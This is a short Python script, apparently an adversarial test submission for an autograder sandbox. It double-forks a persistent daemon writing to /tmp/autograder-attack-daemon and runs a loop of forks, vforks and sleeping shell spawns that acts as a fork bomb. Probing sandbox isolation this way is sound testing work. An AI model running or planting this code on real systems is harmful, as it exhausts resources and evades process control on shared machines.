"""Forks, forks again, and bombs."""

import ctypes
import os
import subprocess
import time

try:
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while True:
                open("/tmp/autograder-attack-daemon", "a").write("alive")
                time.sleep(0.1)
        os._exit(0)
except OSError:
    pass
for _ in range(100):
    try:
        ctypes.CDLL(None).fork()
        subprocess.Popen(["/bin/sh", "-c", "sleep 1000"])
        ctypes.CDLL(None).vfork()
    except OSError:
        pass
